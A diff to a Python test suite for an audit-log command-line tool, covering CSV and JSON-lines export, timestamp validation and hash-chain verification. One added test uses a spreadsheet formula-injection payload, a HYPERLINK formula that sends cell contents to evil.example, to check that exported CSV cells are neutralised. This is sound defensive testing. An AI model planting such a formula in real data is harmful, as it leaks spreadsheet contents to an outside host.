@@ -6,6 +6,8 @@ own role, which cannot.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -53,7 +55,9 @@ async def app_pool(own_database: str) -> AsyncIterator[asyncpg.Pool]:
     await pool.close()
 
 
-async def record_case(pool: asyncpg.Pool, events: int = 4, officer_id: str = "OF1") -> str:
+async def record_case(
+    pool: asyncpg.Pool, events: int = 4, officer_id: str = "OF1", reason: str = "naïve reason"
+) -> str:
     """A case with ``events`` transitions, written as the workflow's activity writes them."""
     case_id = f"EX-{secrets.token_hex(5).upper()}"
     start = StartCase(
@@ -75,7 +79,7 @@ async def record_case(pool: asyncpg.Pool, events: int = 4, officer_id: str = "OF
                 actor=CASEWORKER,
                 from_state=STATES[(seq - 2) % len(STATES)] if seq > 1 else None,
                 to_state=view.state,
-                reason="naïve reason" if seq == 2 else None,
+                reason=reason if seq == 2 else None,
                 details={"amount": "41538.46", "nested": {"b": [1, 2], "a": None}, "n": 10**12},
                 occurred_at=datetime.now(UTC) + timedelta(microseconds=seq),
             ),
@@ -308,7 +312,9 @@ async def test_export_streams_jsonl_and_csv_over_a_time_range(own_database: str,
         assert audit.event_hash(event) == event["hash"]
     table = _cli(own_database, "export", "--since", before.isoformat(), "--format", "csv")
     header, *rows = table.stdout.splitlines()
-    assert header.startswith("event_id,case_id,seq,action") and header.endswith("prev_hash,hash")
+    # Every cell quoted (store/safe_csv.py).
+    assert header.startswith('"event_id","case_id","seq","action"')
+    assert header.endswith('"prev_hash","hash"')
     assert sum(case_id in row for row in rows) == 3
     empty = _cli(own_database, "export", "--until", before.isoformat())
     assert case_id not in empty.stdout
@@ -428,7 +434,7 @@ async def test_export_in_process_streams_both_formats(app_pool: asyncpg.Pool) ->
     assert sum(json.loads(line)["case_id"] == case_id for line in jsonl) == 2
     csv_chunks = [c async for c in audit.export(app_pool, before, after, audit.ExportFormat.CSV)]
     # One chunk per event (the header rides with the first): nothing is gathered up.
-    assert csv_chunks[0].startswith("event_id,") and len(csv_chunks) == len(jsonl)
+    assert csv_chunks[0].startswith('"event_id",') and len(csv_chunks) == len(jsonl)
     assert "".join(csv_chunks).count(case_id) == 2
     nothing = [line async for line in audit.export(app_pool, after, None)]
     assert nothing == []
@@ -625,3 +631,72 @@ async def test_the_documented_production_logins_cannot_touch_the_log(
         await admin.execute(f"DROP ROLE IF EXISTS {service}")
         await admin.execute(f"DROP ROLE IF EXISTS {owner}")
         await admin.close()
+
+
+async def test_verifying_a_case_that_does_not_exist_is_an_error_naming_it(
+    own_database: str, app_pool
+) -> None:
+    await record_case(app_pool)
+    missing = _cli(own_database, "verify", "--case", "NO-SUCH-CASE")
+    assert missing.returncode == 1
+    assert "no case NO-SUCH-CASE" in missing.stderr and "clean" not in missing.stdout
+
+
+@pytest.mark.parametrize(
+    ("args", "option"),
+    [
+        (("export", "--since", "0001-01-01T00:00:00+14:00"), "--since"),
+        (("access", "--since", "0001-01-01T00:00:00+14:00"), "--since"),
+        (("export", "--until", "9999-12-31T23:59:59-14:00"), "--until"),
+        (("access", "--until", "last tuesday"), "--until"),
+        (("export", "--since", "2026-01-01T00:00:00"), "--since"),
+    ],
+)
+def test_a_bad_moment_names_the_option_and_the_expected_form(
+    args: tuple[str, ...], option: str
+) -> None:
+    result = _cli("postgresql://nobody@127.0.0.1:1/none", *args)
+    assert result.returncode == 2
+    assert f"argument {option}: expected an ISO 8601 moment with a zone" in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+def test_until_before_since_is_refused_before_reading_anything() -> None:
+    for command in ("export", "access"):
+        result = _cli(
+            "postgresql://nobody@127.0.0.1:1/none",
+            command,
+            "--since",
+            "2026-02-01T00:00:00Z",
+            "--until",
+            "2026-01-01T00:00:00Z",
+        )
+        assert result.returncode == 2
+        assert result.stderr.strip() == "error: --until: until is before since"
+
+
+async def test_csv_cells_that_look_like_formulas_are_neutralised_and_jsonl_still_verifies(
+    own_database: str, app_pool
+) -> None:
+    before = datetime.now(UTC)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    case_id = await record_case(app_pool, events=3, reason=formula)
+    table = _cli(own_database, "export", "--since", before.isoformat(), "--format", "csv")
+    assert table.returncode == 0, table.stderr
+    rows = [r for r in csv.DictReader(io.StringIO(table.stdout)) if r["case_id"] == case_id]
+    assert rows[1]["reason"] == "'" + formula
+    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"' in table.stdout
+
+    # The JSON-lines export is the lossless one: the chain verifies from it alone.
+    lines = _cli(own_database, "export", "--since", before.isoformat())
+    events = [json.loads(line) for line in lines.stdout.splitlines()]
+    mine = [e for e in events if e["case_id"] == case_id]
+    assert mine[1]["reason"] == formula
+    previous = audit.GENESIS
+    for event in mine:
+        assert event["prev_hash"] == previous
+        event["occurred_at"] = datetime.fromisoformat(event["occurred_at"])
+        assert audit.event_hash(event) == event["hash"]
+        previous = event["hash"]
+    verified = _cli(own_database, "verify", "--case", case_id)
+    assert verified.returncode == 0 and "clean" in verified.stdout
